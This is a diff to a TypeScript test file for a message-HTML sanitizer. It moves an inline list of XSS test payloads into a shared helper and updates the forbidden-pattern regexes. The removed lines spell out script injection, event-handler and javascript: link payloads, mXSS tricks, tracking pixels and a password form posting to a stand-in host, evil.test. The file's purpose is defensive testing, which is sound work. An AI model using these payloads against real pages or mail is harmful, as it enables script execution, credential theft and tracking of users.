@@ -4,6 +4,7 @@
  */
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
+import { hostileHtml } from "../testing/hostile-html.ts";
 import { sanitizeMessageHtml, textToHtml } from "./sanitize.ts";
 
 const blocked = { remoteImages: false, inlineImage: () => undefined };
@@ -29,50 +30,12 @@ const FORBIDDEN = [
   /<svg/i,
   /expression\s*\(/i,
   /url\s*\(/i,
-  /https?:\/\/evil/i,
+  /evil\.test/i,
+  /__pwned/,
   /srcdoc/i,
 ];
 
-export const HOSTILE: readonly [string, string][] = [
-  ["script tag", `<p>hi</p><script>window.top.pwned=1</script>`],
-  ["script with src", `<script src="https://evil.test/x.js"></script>`],
-  ["event handler on img", `<img src="x" onerror="alert(1)">`],
-  ["event handler on body", `<body onload="alert(1)"><p>x</p></body>`],
-  ["handler, odd case and spacing", `<div OnMouseOver = "alert(1)">x</div>`],
-  ["javascript: link", `<a href="javascript:alert(1)">click</a>`],
-  ["javascript: link, entity-encoded", `<a href="jav&#x09;ascript:alert(1)">click</a>`],
-  ["javascript: link, upper case", `<a href="JAVASCRIPT:alert(1)">click</a>`],
-  ["vbscript: link", `<a href="vbscript:msgbox(1)">click</a>`],
-  ["data: html link", `<a href="data:text/html,<script>alert(1)</script>">click</a>`],
-  ["CSS expression", `<div style="width: expression(alert(1))">x</div>`],
-  ["CSS remote background", `<div style="background: url(https://evil.test/track.png)">x</div>`],
-  ["CSS escaped url", `<div style="background-image: u\\72l(https://evil.test/t.png)">x</div>`],
-  ["style element with import", `<style>@import url(https://evil.test/x.css);</style><p>x</p>`],
-  ["SVG with script", `<svg><script>alert(1)</script><circle r="5"/></svg>`],
-  ["SVG onload", `<svg onload="alert(1)"></svg>`],
-  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.test/">`],
-  [
-    "form",
-    `<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>`,
-  ],
-  ["remote image", `<img src="https://evil.test/pixel.gif" width="1" height="1">`],
-  ["protocol-relative image", `<img src="//evil.test/pixel.gif">`],
-  ["iframe", `<iframe src="https://evil.test/"></iframe>`],
-  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
-  [
-    "object and embed",
-    `<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/y">`,
-  ],
-  ["base href", `<base href="https://evil.test/"><a href="x">x</a>`],
-  ["link stylesheet", `<link rel="stylesheet" href="https://evil.test/x.css">`],
-  [
-    "table background attribute",
-    `<table background="https://evil.test/bg.png"><tr><td>x</td></tr></table>`,
-  ],
-  ["mXSS comment", `<!--<img src="--><img src=x onerror=alert(1)//">`],
-  ["unclosed attribute", `<img src="x" alt="a onerror=alert(1) x="`],
-  ["noscript trick", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
-];
+const HOSTILE = hostileHtml("https://evil.test");
 
 describe("sanitizing message HTML", () => {
   for (const [name, html] of HOSTILE) {
